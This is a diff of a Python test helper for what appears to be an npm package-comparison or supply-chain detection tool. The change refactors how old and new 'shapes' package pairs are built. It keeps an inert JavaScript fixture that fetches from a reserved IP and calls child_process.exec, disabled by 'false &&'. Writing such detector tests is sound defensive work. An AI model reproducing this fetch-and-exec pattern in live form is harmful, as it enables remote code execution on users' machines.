@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from onionskin.lookalike.archives import build_npm
+from onionskin.lookalike.archives import npm_pair
 
 FIRST = b'const https = require("https");\nconst child = require("child_process");\n'
 LINES = "".join(
@@ -13,17 +13,9 @@ LINES = "".join(
 FETCH = b'false && require("https").get("https://192.0.2.1/inert", (a) => require("child_process").exec("inert"));\n'
 
 
-def _release(folder: Path, name: str, version: str, text: bytes) -> Path:
-    (folder / name).mkdir()
-    path = folder / name / f"shapes-{version}.tgz"
-    manifest = f'{{"name": "shapes", "version": "{version}"}}\n'.encode()
-    path.write_bytes(build_npm("shapes", version, {"package.json": manifest, "shapes.js": text}))
-    return path
-
-
 def _pair(folder: Path, version: str, text: bytes, before: bytes = b"") -> tuple[Path, Path]:
-    old = _release(folder, "old", "1.2.3", before or FIRST + LINES)
-    return old, _release(folder, "new", version, text)
+    old = {"shapes.js": before or FIRST + LINES}
+    return npm_pair(folder, version, old, {"shapes.js": text})
 
 
 def good_lines_that_do_neither(folder: Path) -> tuple[Path, Path]:
